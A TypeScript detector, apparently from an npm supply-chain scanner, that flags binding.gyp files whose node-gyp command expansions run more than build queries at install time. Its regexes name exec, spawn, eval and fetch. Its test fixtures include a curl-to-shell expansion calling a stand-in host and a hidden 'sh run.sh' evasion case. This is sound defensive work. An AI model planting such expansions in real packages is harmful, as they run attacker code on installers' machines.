import { readCommand } from "../behaviour/commands.ts";
import type { Detector } from "../detector.ts";
import type { ReleaseTree, SourceFile } from "../model.ts";
import { installHooks } from "./_npm.ts";
import { isMember, sight } from "./_sight.ts";

/** node-gyp runs what stands in `<!(…)` and `<!@(…)` while it reads the file, before anything is compiled. */
const EXPANSION = /<!(?:@)?\(([^\n]{1,2000})/g;
const MOST_EXPANSIONS = 100;
/** How add-ons ask for headers and libraries. */
const ASKS =
  /^\s{0,4}(?:node(?:\.exe)?[ \t]{1,4}(?:-p|-e|-pe)\b|node[ \t]{1,4}[\w./-]{1,200}|(?:\S{0,60}[/\\])?(?:pkg-config|pkgconf|[\w-]{1,30}-config|uname|echo|cat|ls|printf|which|command|python[\d.]{0,4}|xcrun|xcode-select|sw_vers|brew|find|pwd|dirname|git|getconf|ldconfig|llvm-config)\b)/;
/** `node -p "require('node-addon-api').include"`: nothing but a module's own answer. */
const ACTS = /child_process|https?['"`)]|\bfetch\(|\beval\(|Function\(|atob\(|Buffer\.from\(|exec(?:Sync)?\(|spawn/;
const CHAINED = /\|\||&&|[;|&`]|\$\(|>[ \t]{0,4}(?:\/dev\/null|nul)/i;
const SOURCES = /\.(?:c|cc|cpp|cxx|m|mm|h|hh|hpp|rs|s|asm|S|gypi|node|f|cu)$/;

export const gypRunsCommands: Detector = {
  id: "gyp-runs-commands",
  title: "binding.gyp runs a command that is no question to the compiler",
  severity: "high",
  ecosystems: ["npm"],
  points: 6.5,
  class: "threat",
  group: "install-hook",
  why: `npm compiles a package that has a \`binding.gyp\` although package.json declares no install script, and node-gyp runs the
command expansions in that file before it compiles anything. The Phantom Gyp campaign (June 2026) hid its payload there:
https://github.com/Cobenian/shai-hulud-detect.

Native add-ons ask Node.js, pkg-config and similar programs for headers and libraries. Such questions pass when the package has
something to compile; a command that fetches, hides its output or chains others does not.`,
  literals: ["<!(", "<!@("],
  *detect(tree) {
    for (const file of tree.files) {
      if (file.kind !== "gyp" || !isMember(file) || !builtAtInstall(tree, file)) continue;
      const compiles = tree.files.some((other) => isMember(other) && SOURCES.test(other.path));
      let seen = 0;
      for (const match of file.text.matchAll(EXPANSION)) {
        if (++seen > MOST_EXPANSIONS) break;
        const share = shareOf(match[1] ?? "", compiles);
        if (share > 0)
          yield sight(file, match.index, `node-gyp runs \`${commandOf(match[1] ?? "")}\``, { phase: "install", share });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "package.json": "{}",
          "binding.gyp": `{"targets":[{"sources":["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]}]}`,
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": "{}",
          "a.cc": "",
          "binding.gyp": "{'variables':{'a':'<!(curl -s http://example.invalid | sh)'}}",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "package.json": "{}",
          "a.cc": "",
          "binding.gyp": `{"targets":[{"include_dirs":["<!(node -p \\"require('node-addon-api').include_dir\\")"],"sources":["a.cc"]}]}`,
        },
      },
      {
        ecosystem: "npm",
        files: { "package.json": "{}", "a.cc": "", "binding.gyp": "{'libraries':['<!@(pkg-config --libs cairo)']}" },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: { "package.json": "{}", "binding.gyp": "{'includes':['x.gypi']}", "x.gypi": "{'a':'<!@(sh run.sh)'}" },
      },
    ],
  },
};

/** Only a binding.gyp at the top is built without being asked for, with what it includes; a hook may build others. */
function builtAtInstall(tree: ReleaseTree, file: SourceFile): boolean {
  return file.phase === "install" || [...installHooks(tree)].some(({ command }) => /gyp|cmake|prebuild/.test(command));
}

function shareOf(command: string, compiles: boolean): number {
  const text = commandOf(command);
  const { fetches, sends, hides } = readCommand(text);
  if (fetches || sends) return 1;
  if (hides || ACTS.test(text)) return 0.85;
  if (!ASKS.test(text)) return compiles ? 0.15 : 0.85;
  if (!compiles && CHAINED.test(text)) return 0.85;
  return !compiles && /^\s{0,4}node[ \t]{1,4}[\w./]/.test(text) ? 0.65 : 0;
}

/** Up to the bracket that closes the expansion, as far as brackets tell. */
function commandOf(text: string): string {
  let depth = 1;
  for (let at = 0; at < text.length; at++) {
    if (text[at] === "(") depth++;
    if (text[at] === ")" && --depth === 0) return text.slice(0, at).slice(0, 300);
  }
  return text.slice(0, 300);
}
